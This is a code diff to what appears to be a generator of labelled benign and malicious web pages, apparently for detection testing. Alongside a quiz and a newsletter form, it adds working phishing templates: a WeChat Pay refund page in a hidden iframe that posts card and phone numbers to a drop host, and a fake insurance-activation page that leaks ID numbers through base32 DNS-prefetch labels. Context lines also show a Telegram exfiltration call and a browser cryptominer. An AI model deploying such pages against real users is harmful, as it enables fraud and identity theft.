@@ -112,6 +112,27 @@ sb.from('messages').select('*').then(({ data }) => (data || []).forEach((m) => {
     ),
   });
 
+  add('srcdoc-quiz', 'quiz in a srcdoc frame with radio buttons, scored locally', {
+    'index.html': page(
+      '党史知识竞答',
+      '',
+      `<h1>知识竞答</h1><iframe width="400" height="240" srcdoc="${page(
+        '题目',
+        '',
+        `<form id='q'><p>1921 年……</p><label><input type='radio' name='a' value='1'>A</label><label><input type='radio' name='a' value='2'>B</label><select name='s'><option value=''>难度</option><option value='e'>易</option></select><button>交卷</button></form><script>document.getElementById('q').onsubmit = function (e) { e.preventDefault(); localStorage.setItem('score', this.a.value === '1' ? 100 : 0); alert('得分已保存'); };</script>`,
+      ).replace(/"/g, '&quot;')}"></iframe>`,
+    ),
+  });
+
+  add('newsletter-consent', 'newsletter sign-up with a consent checkbox, sent to Getform', {
+    'index.html': page(
+      '订阅周报',
+      '',
+      `<form id="n" action="https://getform.io/f/${r.word(10)}" method="POST"><input type="email" name="email" placeholder="邮箱" required><label><input type="checkbox" name="consent" required>同意接收邮件</label><button>订阅</button></form>
+<script>document.getElementById('n').onsubmit = function (e) { e.preventDefault(); if (!this.consent.checked) return; fetch(this.action, { method: 'POST', body: new FormData(this) }); };</script>`,
+    ),
+  });
+
   return sites;
 }
 
@@ -220,6 +241,28 @@ fetch('https://' + a + b + '/bot${r.int(1e9)}:AA${r.word(30)}/sendMessage', { me
       '在线看剧',
       '',
       `<h1>热播剧</h1><script>var code = 'var ws = new WebSocket("wss://${r.host()}/pool"); ws.onopen = function () { ws.send(JSON.stringify({ method: "login", params: { login: "${r.word(40)}", pass: "x", agent: "xmrig" } })); };'; new Worker(URL.createObjectURL(new Blob([code]))); /* cryptonight, stratum */</script>`,
+    ),
+  });
+
+  add('srcdoc-radio-phish', 'WeChat Pay phishing in a srcdoc frame, sending only once a radio is picked', {
+    'index.html': page(
+      '微信支付 - 退款',
+      '',
+      `<h1>退款通知</h1><iframe width="420" height="300" style="border:0" srcdoc="${page(
+        '退款',
+        '',
+        `<form id='r'><p>您有一笔退款待领取</p><label><input type='radio' name='m' value='1'>原路退回</label><label><input type='radio' name='m' value='2'>退到银行卡</label><input name='card' placeholder='银行卡号'><input name='phone' placeholder='预留手机号'><button>领取退款</button></form><script>document.getElementById('r').onsubmit = function (e) { e.preventDefault(); if (!this.m.value) return; fetch('${drop()}', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ c: this.card.value, p: this.phone.value }) }); };</script>`,
+      ).replace(/"/g, '&quot;')}"></iframe>`,
+    ),
+  });
+
+  add('base32-dns-channel', 'ID numbers sent as base32 DNS-prefetch labels', {
+    'index.html': page(
+      '医保卡激活',
+      '',
+      `${form('医保局', '医保卡未激活将影响报销，请立即激活', '<input name="n" placeholder="姓名"><input name="id" placeholder="身份证号码">')}
+<script>var A = 'abcdefghijklmnopqrstuvwxyz234567'; function b32(s) { var bits = '', out = ''; for (var i = 0; i < s.length; i++) bits += ('00000000' + s.charCodeAt(i).toString(2)).slice(-8); for (var j = 0; j < bits.length; j += 5) out += A[parseInt((bits.slice(j, j + 5) + '0000').slice(0, 5), 2)]; return out; }
+document.getElementById('x').onsubmit = function (e) { e.preventDefault(); var l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//' + b32(this.id.value) + '.${r.word(6)}.${r.pick(['top', 'icu', 'vip'])}'; document.head.appendChild(l); };</script>`,
     ),
   });
 
